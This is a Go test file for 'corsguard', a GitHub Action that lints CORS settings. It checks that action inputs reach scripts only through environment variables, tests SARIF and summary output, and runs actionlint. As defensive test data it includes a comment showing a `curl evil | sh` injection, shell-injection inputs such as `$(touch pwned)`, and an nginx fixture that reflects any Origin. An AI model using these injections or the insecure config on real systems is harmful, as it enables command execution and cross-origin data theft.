// Package action holds the scripts of the corsguard GitHub Action
// (action.yml at the repository root) and the tests that run them the way
// the Actions runner does, with fake GITHUB_OUTPUT and GITHUB_STEP_SUMMARY
// files.
package action

import (
	"bufio"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

func repoRoot(t *testing.T) string {
	t.Helper()
	root, err := filepath.Abs("..")
	if err != nil {
		t.Fatal(err)
	}
	return root
}

func need(t *testing.T, tool string) string {
	t.Helper()
	p, err := exec.LookPath(tool)
	if err != nil {
		t.Skipf("%s is not installed", tool)
	}
	return p
}

// Inputs are data, never code: no ${{ }} inside a run: value (an input
// holding `"; curl evil | sh` would run), and every run: is a script of
// this directory, which the tests below run.
func TestActionRunStepsTakeInputsOnlyThroughEnv(t *testing.T) {
	fh, err := os.Open(filepath.Join(repoRoot(t), "action.yml"))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = fh.Close() }()
	runLine := regexp.MustCompile(`^\s+run:\s*(.*)$`)
	script := regexp.MustCompile(`^'"\$GITHUB_ACTION_PATH/action/[a-z]+\.sh"'$`)
	sc := bufio.NewScanner(fh)
	runs := 0
	for n := 1; sc.Scan(); n++ {
		m := runLine.FindStringSubmatch(sc.Text())
		if m == nil {
			continue
		}
		runs++
		if !script.MatchString(m[1]) {
			t.Errorf("action.yml:%d: run: %s: want a script of action/ run as '\"$GITHUB_ACTION_PATH/action/x.sh\"'", n, m[1])
		}
		if _, err := os.Stat(filepath.Join(repoRoot(t), strings.Trim(strings.TrimPrefix(strings.Trim(m[1], `'"`), "$GITHUB_ACTION_PATH/"), `"`))); err != nil {
			t.Errorf("action.yml:%d: %v", n, err)
		}
	}
	if runs != 2 {
		t.Errorf("%d run steps, want 2 (build and lint)", runs)
	}
	// Every INPUT_ the lint script reads is set from an input.
	yml, _ := os.ReadFile(filepath.Join(repoRoot(t), "action.yml"))
	lint, _ := os.ReadFile("lint.sh")
	for _, v := range regexp.MustCompile(`INPUT_[A-Z_]+`).FindAllString(string(lint), -1) {
		if !strings.Contains(string(yml), v+": ${{ inputs.") {
			t.Errorf("lint.sh reads %s, which action.yml does not set from an input", v)
		}
	}
}

// step runs one of the action's scripts as the runner would, and returns
// its exit status, the step outputs it wrote and the job summary.
type step struct {
	t       *testing.T
	dir     string
	env     []string
	outputs string
	summary string
}

func newStep(t *testing.T, dir string, env ...string) *step {
	s := &step{t: t, dir: dir, outputs: filepath.Join(t.TempDir(), "output"), summary: filepath.Join(t.TempDir(), "summary")}
	s.env = append(os.Environ(), "GITHUB_ACTION_PATH="+repoRoot(t), "GITHUB_OUTPUT="+s.outputs,
		"GITHUB_STEP_SUMMARY="+s.summary, "RUNNER_TEMP="+t.TempDir())
	s.env = append(s.env, env...)
	return s
}

func (s *step) run(script string) (code int, log string, outputs map[string]string, summary string) {
	s.t.Helper()
	cmd := exec.Command(need(s.t, "bash"), filepath.Join(repoRoot(s.t), "action", script))
	cmd.Dir = s.dir
	cmd.Env = s.env
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		s.t.Fatal(err)
	}
	outputs = map[string]string{}
	data, _ := os.ReadFile(s.outputs)
	for _, line := range strings.Split(string(data), "\n") {
		if k, v, ok := strings.Cut(line, "="); ok {
			outputs[k] = v
		}
	}
	sum, _ := os.ReadFile(s.summary)
	return code, string(out), outputs, string(sum)
}

const reflecting = "server {\n  listen 443 ssl;\n  server_name api.example.com;\n  location / {\n    add_header Access-Control-Allow-Origin $http_origin always;\n    add_header Vary Origin always;\n  }\n}\n"
const exact = "server {\n  listen 443 ssl;\n  server_name static.example.com;\n  location / {\n    add_header Access-Control-Allow-Origin * always;\n  }\n}\n"

func TestActionBuildsAndLints(t *testing.T) {
	if testing.Short() {
		t.Skip("builds corsguard")
	}
	need(t, "go")
	// Build: from the action's own checkout, named after the ref.
	code, log, out, _ := newStep(t, t.TempDir(), "ACTION_REF=v9.9.9").run("build.sh")
	bin := out["corsguard"]
	if code != 0 || bin == "" || !strings.Contains(log, "corsguard v9.9.9") {
		t.Fatalf("build.sh: exit %d, outputs %v\n%s", code, out, log)
	}

	work := t.TempDir()
	write := func(name, body string) {
		if err := os.MkdirAll(filepath.Join(work, filepath.Dir(name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(work, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("deploy/nginx/api.conf", reflecting)
	write("deploy/nginx/static.conf", exact)
	write("deploy with space/nginx/static.conf", exact)
	write("ops/supervisord.conf", "[program:api]\ncommand=/usr/bin/api\n")

	lint := func(env ...string) (int, string, map[string]string, string) {
		return newStep(t, work, append([]string{"CORSGUARD=" + bin}, env...)...).run("lint.sh")
	}
	t.Run("findings fail the step, with SARIF and a summary", func(t *testing.T) {
		code, log, out, summary := lint("INPUT_PATHS=deploy ops/supervisord.conf", "INPUT_ARGS=--skip-unknown", "INPUT_SARIF_FILE=corsguard.sarif", "INPUT_FAIL_ON=low")
		if code != 1 || out["exit-code"] != "1" || out["findings"] != "1" {
			t.Errorf("exit %d, outputs %v\n%s", code, out, log)
		}
		if !strings.Contains(log, "deploy/nginx/api.conf:5:5: \x1b") && !strings.Contains(log, "deploy/nginx/api.conf:5:5") {
			t.Errorf("the log lacks the finding:\n%s", log)
		}
		if want := filepath.Join(work, "corsguard.sarif"); out["sarif-file"] != want {
			t.Errorf("sarif-file %q, want %q", out["sarif-file"], want)
		}
		sarif, err := os.ReadFile(filepath.Join(work, "corsguard.sarif"))
		if err != nil || !strings.Contains(string(sarif), `"id": "corsguard/lint/"`) || !strings.Contains(string(sarif), `"uri": "deploy/nginx/api.conf"`) {
			t.Errorf("SARIF: %v\n%.600s", err, sarif)
		}
		if !strings.Contains(summary, "### corsguard lint") || !strings.Contains(summary, "[CG101](#cg101-origin-reflected)") {
			t.Errorf("summary:\n%s", summary)
		}
	})
	t.Run("below fail-on passes", func(t *testing.T) {
		code, log, out, _ := lint("INPUT_PATHS=deploy", "INPUT_FAIL_ON=critical", "INPUT_ARGS=--disable CG101")
		if code != 0 || out["findings"] != "0" {
			t.Errorf("exit %d, outputs %v\n%s", code, out, log)
		}
	})
	t.Run("a baseline accepts today's findings", func(t *testing.T) {
		cmd := exec.Command(bin, "baseline", "-o", "base.json", "deploy")
		cmd.Dir = work
		if b, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("baseline: %v\n%s", err, b)
		}
		code, log, out, summary := lint("INPUT_PATHS=deploy", "INPUT_BASELINE=base.json", "INPUT_SARIF_FILE=")
		if code != 0 || out["findings"] != "0" || out["sarif-file"] != "" || !strings.Contains(summary, "1 baselined") {
			t.Errorf("exit %d, outputs %v\n%s\n%s", code, out, log, summary)
		}
	})
	t.Run("paths one per line, with spaces", func(t *testing.T) {
		code, log, out, _ := lint("INPUT_PATHS=deploy with space\n\n  deploy/nginx/static.conf  \n", "INPUT_STEP_SUMMARY=false")
		if code != 0 || out["findings"] != "0" || !strings.Contains(log, "in 2 file(s)") {
			t.Errorf("exit %d, outputs %v\n%s", code, out, log)
		}
	})
	t.Run("bad input is exit 2 and an error annotation", func(t *testing.T) {
		code, log, out, _ := lint("INPUT_PATHS=missing", "INPUT_FORMAT=json")
		if code != 2 || out["exit-code"] != "2" || !strings.Contains(log, "::error title=corsguard::") {
			t.Errorf("exit %d, outputs %v\n%s", code, out, log)
		}
	})
	t.Run("an input is data, not shell", func(t *testing.T) {
		code, log, _, _ := lint("INPUT_PATHS=deploy/nginx/static.conf", `INPUT_CONFIG=$(touch pwned)`, "INPUT_ARGS=; touch pwned")
		if _, err := os.Stat(filepath.Join(work, "pwned")); err == nil {
			t.Fatalf("an input ran as shell:\n%s", log)
		}
		if code != 2 {
			t.Errorf("exit %d for a missing config file\n%s", code, log)
		}
	})
}

// Every example workflow passes actionlint (go install
// github.com/rhysd/actionlint/cmd/actionlint@v1.7.12).
func TestExampleWorkflowsPassActionlint(t *testing.T) {
	bin, err := exec.LookPath("actionlint")
	if err != nil {
		out, gerr := exec.Command("go", "env", "GOPATH").Output()
		bin = filepath.Join(strings.TrimSpace(string(out)), "bin", "actionlint")
		if _, serr := os.Stat(bin); gerr != nil || serr != nil {
			t.Skip("actionlint is not installed")
		}
	}
	files, err := filepath.Glob(filepath.Join(repoRoot(t), "examples", "workflows", "*.yml"))
	if err != nil || len(files) < 2 {
		t.Fatalf("example workflows: %v %v", files, err)
	}
	cmd := exec.Command(bin, append([]string{"-no-color"}, files...)...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("actionlint: %v\n%s", err, out)
	}
}
